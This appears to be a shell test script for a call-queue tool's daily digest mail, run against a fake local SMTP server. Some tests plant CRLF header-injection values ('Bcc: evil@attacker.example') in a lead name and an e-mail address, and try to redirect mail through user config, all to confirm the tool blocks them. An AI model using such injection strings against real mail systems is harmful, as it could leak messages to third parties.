#!/bin/sh
# The daily digest against a fake mail server on 127.0.0.1
# (tests/fakesmtp.py): each team lead and admin gets their own day, in
# their own scope, with figures the test knows from the day it made and
# checks again with sqlite3; no header can be forged from what users
# typed; one refused recipient does not stop the rest; a server that is
# down is one sentence and a nonzero exit; and on a shared floor a
# user's own settings cannot send the mail anywhere else.
. "$(dirname "$0")/../lib.sh"
export LANG=C.UTF-8
unset LC_ALL
export XDG_CONFIG_HOME=$scratch/xdg

day0=$((daytime - 16 * 3600))	# Monday 2026-11-23 00:00 UTC
floor_db digest
me=$(id -un)
cq() { CALLQ_NOW=$daytime "$bin" --db "$db" "$@"; }
at() { # at HH:MM COMMAND...: the command run at that time of the day
	h=${1%:*}
	m=${1#*:}
	shift
	CALLQ_NOW=$((day0 + ${h#0} * 3600 + ${m#0} * 60)) "$bin" --db "$db" "$@"
}
q() { "$sq" "$db" "$@"; }
# CR LF for the tests' own SQL, written into its string literal as both
# drivers read it (SQLite's char(13, 10) is not PostgreSQL's).
crlf=$(printf '\r\n.')
crlf=${crlf%.}

cq init >/dev/null
cq region add East --country US >/dev/null
cq region add West --country US >/dev/null
cq setting set hours 00:00-24:00 >/dev/null
cq user edit "$me" --email admin@floor.example >/dev/null
cq user add adm2 --role admin >/dev/null
cq user add tl1 --role lead --team East --name "Tina Lead" \
    --email tl1@floor.example >/dev/null
cq user add tl2 --role lead --team West --email tl2@floor.example >/dev/null
cq user add an1 --role analyst --email an1@floor.example >/dev/null
cq user add rep1 --role rep --team East --region East >/dev/null
cq user add rep2 --role rep --team East --region East >/dev/null
cq user add rep3 --role rep --team West --region West >/dev/null
n=0
for l in "Acme Deli:rep1:East" "Bravo Bakery:rep1:East" \
    "Charlie Cafe:rep2:East" "Dora Diner:rep2:East" \
    "West Bakery:rep3:West" "Wharf Fish:rep3:West" "Évora Café:rep3:West"; do
	n=$((n + 1))
	rest=${l#*:}
	cq lead add --name "${l%%:*}" --phone "+1 212-736-01$((10 + n))" \
	    --owner "${rest%%:*}" --region "${rest#*:}" >/dev/null
done
id_of() { q "SELECT id FROM leads WHERE name = '$1'"; }
acme=$(id_of "Acme Deli")
bravo=$(id_of "Bravo Bakery")
charlie=$(id_of "Charlie Cafe")
dora=$(id_of "Dora Diner")
westb=$(id_of "West Bakery")
wharf=$(id_of "Wharf Fish")
evora=$(id_of "Évora Café")

# The day before: a conversion and a missed follow-up that are not today's.
CALLQ_NOW=$((day0 - 14 * 3600)) "$bin" --db "$db" --as rep2 log "$dora" \
    --disposition Converted >/dev/null
CALLQ_NOW=$((day0 - 14 * 3600)) "$bin" --db "$db" --as rep1 followup add \
    "$bravo" "2026-11-22 15:00" >/dev/null
# The day: follow-ups booked early, calls, two conversions.
at 07:00 --as rep1 followup add "$bravo" "2026-11-23 09:00" >/dev/null
at 07:00 --as rep2 followup add "$charlie" "2026-11-23 10:30" >/dev/null
at 07:00 --as rep2 followup add "$charlie" "2026-11-23 17:00" >/dev/null
at 07:00 --as rep3 followup add "$wharf" "2026-11-23 14:00" >/dev/null
fu_charlie=$(q "SELECT id FROM followups WHERE lead_id = $charlie
    AND due_at = $((day0 + 37800))")
at 09:30 --as rep1 log "$acme" --disposition "No answer" >/dev/null
at 10:00 --as rep1 log "$acme" --disposition Converted >/dev/null
at 10:40 --as rep2 followup done "$fu_charlie" >/dev/null
at 11:00 --as rep2 log "$charlie" --disposition Busy >/dev/null
at 12:00 --as rep3 log "$evora" --disposition Converted >/dev/null
at 13:00 --as rep3 log "$westb" --disposition "No answer" >/dev/null
# A name written past callq's checks (an old import, the sqlite3 shell):
# a line break and a header of its own.
q "UPDATE leads SET name = 'Wharf Fish' || '$crlf' ||
    'Bcc: evil@attacker.example' WHERE id = $wharf"

# Printed, not sent: every admin and team lead, each digest their own.
cq digest >"$scratch/all.txt" 2>"$scratch/all.err"
ok "digest prints one digest per admin and team lead, by login" \
    test "$(grep '^For ' "$scratch/all.txt" | sed 's/^For .*(\(.*\)).*/\1/' |
    tr '\n' ' ')" = "$(printf 'adm2\n%s\ntl1\ntl2\n' "$me" | sort | tr '\n' ' ')"
ok "for the day asked (today by default)" \
    test "$(grep -c '^callq digest for 2026-11-23$' "$scratch/all.txt")" = 4
ok "no line is wider than 72 columns" \
    sh -c "! LC_ALL=C.UTF-8 awk 'length(\$0) > 72' '$scratch/all.txt' | grep -q ."
cq digest --to tl1 >"$scratch/tl1.txt"
section() { # section FILE TITLE: the lines under TITLE, up to a blank one
	awk -v t="$2" 'index($0, t " (") == 1 { on = 1; next }
	    /^$/ { on = 0 } on' "$1"
}
ok "tl1 sees their team's conversion of the day, and not the day before's" \
    test "$(section "$scratch/tl1.txt" Conversions)" = \
    "  10:00  Acme Deli                                  rep1"
ok "and their team's missed follow-up (not the one done within grace, nor one still to come)" \
    test "$(section "$scratch/tl1.txt" "Missed follow-ups")" = \
    "  09:00  Bravo Bakery                               rep1"
ok "the headings count the lines" \
    sh -c "grep -q '^Conversions (1)$' '$scratch/tl1.txt' &&
    grep -q '^Missed follow-ups (1)$' '$scratch/tl1.txt'"
ok "tl1's figures are their team's" \
    grep -q "^For Tina Lead (tl1), a team lead: your team's figures\.$" \
    "$scratch/tl1.txt"
cq digest --to tl2 >"$scratch/tl2.txt"
ok "tl2 sees the West team's conversion, a name in UTF-8 kept" \
    test "$(section "$scratch/tl2.txt" Conversions)" = \
    "  12:00  Évora Café                                 rep3"
ok "and the missed follow-up on the lead with the forged name, masked on one line" \
    test "$(section "$scratch/tl2.txt" "Missed follow-ups")" = \
    "  14:00  Wharf Fish??Bcc: evil@attacker.example     rep3"

# The same figures, counted with sqlite3 from the tables themselves.
count_sql() { # count_sql TEAM: conversions and missed follow-ups of the day
	team=${1:+"AND u.team_id = (SELECT id FROM teams WHERE name = '$1')"}
	q "SELECT (SELECT count(*) FROM calls c JOIN users u ON u.id = c.user_id
	    JOIN dispositions d ON d.id = c.disposition_id
	    WHERE d.status = 'Converted' AND c.started_at >= $day0
	    AND c.started_at < $day0 + 86400 $team) || ' ' ||
	    (SELECT count(*) FROM followups f JOIN users u ON u.id = f.user_id
	    WHERE f.due_at >= $day0 AND f.due_at < $day0 + 86400
	    AND f.state <> 'cancelled' AND f.due_at + 900 < $daytime
	    AND (f.done_at IS NULL OR f.done_at > f.due_at + 900) $team)"
}
counts_of() { # the counts a digest's headings give
	echo "$(grep '^Conversions (' "$1" | tr -dc 0-9) $(grep \
	    '^Missed follow-ups (' "$1" | tr -dc 0-9)"
}
cq digest --to "$me" >"$scratch/admin.txt"
ok "the admin's counts are the floor's, as sqlite3 counts them" \
    test "$(counts_of "$scratch/admin.txt")" = "$(count_sql "")"
ok "and the floor's are 2 and 2" test "$(count_sql "")" = "2 2"
ok "tl1's are East's" test "$(counts_of "$scratch/tl1.txt")" = "$(count_sql East)"
ok "tl2's are West's" test "$(counts_of "$scratch/tl2.txt")" = "$(count_sql West)"
alerts_sql() { # the texts of a user's notifications of the day
	q "SELECT n.text FROM notifications n JOIN users u ON u.id = n.user_id
	    WHERE u.login = '$1' AND n.created_at >= $day0
	    AND n.created_at < $day0 + 86400 ORDER BY n.created_at, n.id"
}
ok "tl1's alerts are tl1's own notifications of the day" \
    test "$(section "$scratch/tl1.txt" Alerts | cut -c10-)" = \
    "$(alerts_sql tl1)"
ok "one of them the conversion" grep -q "rep1 converted lead $acme" \
    "$scratch/tl1.txt"
ok "tl2's are tl2's" \
    test "$(section "$scratch/tl2.txt" Alerts | cut -c10-)" = \
    "$(alerts_sql tl2)"
if grep -q "^    the agents report is not built yet$" "$scratch/tl1.txt"; then
	skip "the agents report's totals" "the agents report is not built" \
	    "on this branch"
else
	calls_sql() {
		q "SELECT count(*) FROM calls c JOIN users u ON u.id = c.user_id
		    WHERE c.started_at >= $day0 AND c.started_at < $day0 + 86400
		    AND u.team_id = (SELECT id FROM teams WHERE name = '$1')"
	}
	ok "tl1's calls total is East's calls that day" \
	    test "$(section "$scratch/tl1.txt" "The day in figures" |
	    awk '$1 == "calls" || $1 == "Calls" { print $2 }')" = \
	    "$(calls_sql East)"
	ok "tl2's is West's" \
	    test "$(section "$scratch/tl2.txt" "The day in figures" |
	    awk '$1 == "calls" || $1 == "Calls" { print $2 }')" = \
	    "$(calls_sql West)"
	ok "and the conversions total is the count of their Conversions" \
	    test "$(section "$scratch/tl1.txt" "The day in figures" |
	    awk '$1 == "Conversions" { print $2 }') $(section \
	    "$scratch/tl2.txt" "The day in figures" |
	    awk '$1 == "Conversions" { print $2 }')" = \
	    "$(count_sql East | cut -d' ' -f1) $(count_sql West | cut -d' ' -f1)"
	ok "no figure line ends in a blank" \
	    sh -c "! grep -q ' $' '$scratch/all.txt'"
fi
cq digest --date yesterday --to tl1 >"$scratch/y.txt"
ok "--date yesterday is Sunday, with Dora Diner's conversion" \
    sh -c "grep -q '^callq digest for 2026-11-22$' '$scratch/y.txt' &&
    grep -q '  10:00  Dora Diner  .* rep2$' '$scratch/y.txt'"

# Who may have which digest.
cq --as rep1 digest >"$scratch/o" 2>"$scratch/err"
ok "a rep asking for a digest gets 77, a sentence and nothing else" \
    sh -c "test $? -eq 77 && grep -q 'digests are for team leads, analysts and admins' '$scratch/err' &&
    ! test -s '$scratch/o'"
cq --as tl1 digest --to tl2 >"$scratch/o" 2>"$scratch/err"
ok "a team lead asking for another's digest gets 77 and nothing else" \
    sh -c "test $? -eq 77 && ! test -s '$scratch/o'"
ok "their own they may have, which is what digest alone gives them" \
    sh -c "CALLQ_NOW=$daytime '$bin' --db '$db' --as tl1 digest --to tl1 |
    cmp -s - '$scratch/tl1.txt' && CALLQ_NOW=$daytime '$bin' --db '$db' \
    --as tl1 digest | cmp -s - '$scratch/tl1.txt'"
cq digest --to nobody >/dev/null 2>"$scratch/err"
ok "an unknown login is refused" \
    sh -c "test $? -eq 67 && grep -q \"no callq user 'nobody'\" '$scratch/err'"
cq digest --date "the 5th" >/dev/null 2>"$scratch/err"
ok "a day that is not one is a usage error" \
    sh -c "test $? -eq 64 && grep -q \"'the 5th' is not a day\" '$scratch/err'"

# The mail: no [mail], then the fake server.
conf() { # conf FILE: its text on stdin, mode 0600
	cat >"$1"
	chmod 600 "$1"
}
printf '[dial]\nprovider = none\n' | conf "$scratch/nomail.conf"
cq --config "$scratch/nomail.conf" digest --send >/dev/null 2>"$scratch/err"
ok "--send with no [mail] is refused (78), saying where to set it" \
    sh -c "test $? -eq 78 && grep -q 'no \[mail\] smtp_url in callq.conf' '$scratch/err'"
printf '[mail]\nsmtp_url = http://127.0.0.1:25\nfrom = callq@floor.example\n' |
    conf "$scratch/bad.conf"
cq --config "$scratch/bad.conf" digest --send >/dev/null 2>"$scratch/err"
ok "an address that is not smtp:// or smtps:// is refused with its line" \
    sh -c "test $? -eq 78 && grep -q 'bad.conf:2: \[mail\] smtp_url is not an smtp:// or smtps:// address' '$scratch/err'"
printf '[mail]\nsmtp_url = smtp://u:hunter2@127.0.0.1\nfrom = c@floor.example\n' |
    conf "$scratch/bad.conf"
cq --config "$scratch/bad.conf" digest --send >/dev/null 2>"$scratch/err"
ok "credentials in the address are refused, and not echoed" \
    sh -c "test $? -eq 78 && grep -q 'holds a user name or password' '$scratch/err' &&
    ! grep -q hunter2 '$scratch/err'"
printf '[mail]\nsmtp_url = smtp://127.0.0.1\nfrom = c@floor.example\nuser = callq\n' |
    conf "$scratch/bad.conf"
cq --config "$scratch/bad.conf" digest --send >/dev/null 2>"$scratch/err"
ok "a user without a password is refused" \
    sh -c "test $? -eq 78 && grep -q '\[mail\] user needs \[mail\] password' '$scratch/err'"

mail=$scratch/mail
mkdir "$mail"
echo "callq s3cret-9f2" >"$scratch/login"
python3 "$top/tests/fakesmtp.py" "$scratch/port" "$mail" "$scratch/login" &
eventually "[ -s '$scratch/port' ]" || { echo "fake SMTP did not start"; exit 1; }
port=$(cat "$scratch/port")
echo "s3cret-9f2" >"$scratch/password"
chmod 600 "$scratch/password"
conf "$scratch/mail.conf" <<EOC
[mail]
smtp_url = smtp://127.0.0.1:$port
from = callq@floor.example
user = callq
password_file = $scratch/password
EOC
cq --config "$scratch/mail.conf" digest --send >"$scratch/o" 2>"$scratch/err"
ok "digest --send succeeds, an admin with no e-mail skipped" test $? -eq 0
ok "it says whom it sent to" test "$(grep -c '^sent ' "$scratch/o")" = 3
ok "the one with no e-mail is named on stderr" \
    grep -q "^callq: adm2 has no e-mail, so no digest was sent to them" \
    "$scratch/err"
ok "no secret in any output" \
    sh -c "! grep -q s3cret '$scratch/o' '$scratch/err'"
# The messages, read with Python's own e-mail parser.
mails() { # mails PYTHON: an expression over msgs (rcpt -> message)
	python3 - "$mail" "$1" <<'EOP'
import email, email.policy, glob, json, sys
msgs, raw = {}, {}
for p in sorted(glob.glob(sys.argv[1] + "/*.json")):
    m = json.load(open(p))
    for r in m["rcpt"]:
        msgs[r.strip("<>")] = email.message_from_bytes(
            m["data"].encode(), policy=email.policy.default)
        raw[r.strip("<>")] = m
def body(r):  # what a mail client shows, with its line ends
    return msgs[r].get_content().replace("\r\n", "\n")
sys.exit(0 if eval(sys.argv[2]) else 1)
EOP
}
ok "one message to each recipient with an e-mail, and only them" \
    mails 'sorted(msgs) == ["admin@floor.example", "tl1@floor.example", "tl2@floor.example"]'
ok "after logging in with the floor's user and password file" \
    mails 'all(m["login"] == ["callq", "s3cret-9f2"] for m in raw.values())'
ok "from the floor's address, envelope and header" \
    mails 'all(m["from"] == "<callq@floor.example>" and msgs[r]["From"].addresses[0].addr_spec == "callq@floor.example" for r, m in raw.items())'
ok "To, Subject, Date and Message-ID as a mail client wants them" \
    mails 'all(m["To"].addresses[0].addr_spec == r and m["Subject"] == "callq digest for 2026-11-23" and m["Date"].datetime.timestamp() == '"$daytime"' and m["Message-ID"].startswith("<") for r, m in msgs.items())'
ok "each Message-ID its own" \
    mails 'len({m["Message-ID"] for m in msgs.values()}) == 3'
ok "each body is that recipient's digest, exactly as printed" \
    mails 'body("tl1@floor.example") == open("'"$scratch/tl1.txt"'").read() and body("tl2@floor.example") == open("'"$scratch/tl2.txt"'").read()'
ok "every line ends in CRLF, none is bare" \
    mails 'all("\r\n" in m["data"] and m["data"].count("\n") == m["data"].count("\r\n") and m["data"].count("\r") == m["data"].count("\r\n") for m in raw.values())'
ok "the forged name added no header: just the seven callq writes" \
    mails 'all(sorted(k.lower() for k in m.keys()) == ["content-transfer-encoding", "content-type", "date", "from", "message-id", "mime-version", "subject", "to"] for m in msgs.values()) and "Bcc" not in msgs["tl2@floor.example"]'
ok "UTF-8 arrives as UTF-8" \
    mails '"Évora Café" in body("tl2@floor.example")'

# One recipient refused: the others still go, and the exit says so.
rm -f "$mail"/*.json
q "UPDATE users SET email = 'bounce-tl2@floor.example' WHERE login = 'tl2'"
cq --config "$scratch/mail.conf" digest --send >"$scratch/o" 2>"$scratch/err"
rc=$?
ok "a recipient the server refuses fails the run (75)" test $rc -eq 75
ok "named, with the server's answer" \
    grep -q "^callq: the digest to bounce-tl2@floor.example was not sent: the mail server at smtp://127.0.0.1:$port answered 550" \
    "$scratch/err"
ok "the others still went" \
    mails 'sorted(msgs) == ["admin@floor.example", "tl1@floor.example"]'
ok "and the last line counts what failed" \
    sh -c "tail -n 1 '$scratch/err' | grep -q '^callq: 1 of 3 digests were not sent'"
# An address written past callq's checks cannot add a header either.
q "UPDATE users SET email = 'tl2@floor.example' || '$crlf' ||
    'Bcc: evil@attacker.example' WHERE login = 'tl2'"
rm -f "$mail"/*.json
cq --config "$scratch/mail.conf" digest --send >/dev/null 2>"$scratch/err"
ok "an e-mail holding a line break is refused, the others sent" \
    sh -c "test $? -ne 0 && grep -q 'cannot be a mail recipient' '$scratch/err'"
ok "and nothing reached the attacker" \
    mails 'sorted(msgs) == ["admin@floor.example", "tl1@floor.example"] and not any("evil" in r for m in raw.values() for r in m["rcpt"])'
cq user edit tl2 --email "tl2@floor.example
Bcc: evil@attacker.example" >/dev/null 2>"$scratch/err"
ok "user edit refuses such an address (65)" \
    sh -c "test $? -eq 65 && grep -q 'holds a character an address may not' '$scratch/err'"
cq user edit tl2 --email "" >/dev/null
ok "--email '' clears it" test "$(q "SELECT count(*) FROM users WHERE login = 'tl2' AND email IS NULL")" = 1

# A wrong password, then a server that is down: one sentence each.
echo "wrong" >"$scratch/password"
cq --config "$scratch/mail.conf" digest --send >"$scratch/o" 2>"$scratch/err"
rc=$?
ok "a login the server refuses stops the run (78), in one sentence" \
    sh -c "test $rc -eq 78 && test \$(grep -c 'refused callq.s login' '$scratch/err') -eq 1"
free=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
sed "s/:$port\$/:$free/" "$scratch/mail.conf" | conf "$scratch/down.conf"
echo "s3cret-9f2" >"$scratch/password"
cq --config "$scratch/down.conf" digest --send >"$scratch/o" 2>"$scratch/err"
rc=$?
ok "a server that is down: a nonzero exit (69)" test $rc -eq 69
ok "and one sentence saying so, not one per recipient" \
    test "$(grep -c "^callq: the mail server at smtp://127.0.0.1:$free could not be reached (.*); check that it is up and \[mail\] smtp_url in callq.conf$" "$scratch/err")" = 1
ok "nothing said sent" sh -c "! grep -q '^sent' '$scratch/o'"

# A shared floor: only the floor's callq.conf says where mail goes.
if [ "$(id -u)" -ne 0 ]; then
	skip "a user's own settings cannot redirect mail" "it needs root" \
	    "(accounts, a group, make install-shared)"
	finish
	exit
fi
fport=$port
python3 "$top/tests/fakesmtp.py" "$scratch/port2" "$scratch/mail2" &
mkdir "$scratch/mail2"
eventually "[ -s '$scratch/port2' ]" || { echo "second SMTP did not start"; exit 1; }
port2=$(cat "$scratch/port2")
. "$top/tests/floor.sh"
tl=cqtl$tag
account "$tl"
floor_install
"$bin" user add "$tl" --role lead --team East --email tl@floor.example \
    >/dev/null
printf '[mail]\nsmtp_url = smtp://127.0.0.1:%s\nfrom = callq@floor.example\nuser = callq\npassword_file = %s\n' \
    "$fport" "$confdir/mail.secret" >"$conf"
echo "s3cret-9f2" >"$confdir/mail.secret"
chown root:"$group" "$conf" "$confdir/mail.secret"
chmod 0640 "$conf" "$confdir/mail.secret"
rm -f "$mail"/*.json
h=$scratch/home/$tl
mkdir -p "$h/.config/callq"
mine=$h/.config/callq/callq.conf
attempts=0
through=0
for line in "smtp_url = smtp://127.0.0.1:$port2" "from = evil@attacker.example" \
    "user = evil" "password = evil" "password_file = $h/pw"; do
	printf '[mail]\n%s\n' "$line" >"$mine"
	chown -R "$tl" "$h/.config"
	for how in personal --config; do
		if [ $how = personal ]; then
			as "$tl" "$bin" digest --send >"$scratch/o" 2>&1
		else
			as "$tl" "$bin" --config "$mine" digest --send \
			    >"$scratch/o" 2>&1
		fi
		rc=$?
		attempts=$((attempts + 1))
		if [ $rc -ne 78 ] || ! grep -q "\[mail\] .* is the floor's to set" \
		    "$scratch/o"; then
			through=$((through + 1))
			sed 's/^/#   /' "$scratch/o"
		fi
	done
done
sent=$(ls "$mail" "$scratch/mail2" | grep -c json)
echo "# mail settings from a team lead's own file: $attempts attempts, $((through + sent)) got through"
ok "a team lead's own file or --config cannot set any [mail] key" \
    test $((through + sent)) -eq 0
rm -f "$mine"
as "$tl" env CALLQ_CONFIG="$scratch/down.conf" "$bin" digest --send \
    >"$scratch/o" 2>&1
ok "CALLQ_CONFIG is not read: the digest went to the floor's server" \
    sh -c "grep -q '^sent $tl.s digest to tl@floor.example' '$scratch/o' &&
    test \$(ls '$mail' | grep -c json) -eq 1 &&
    test \$(ls '$scratch/mail2' | grep -c json) -eq 0"
finish
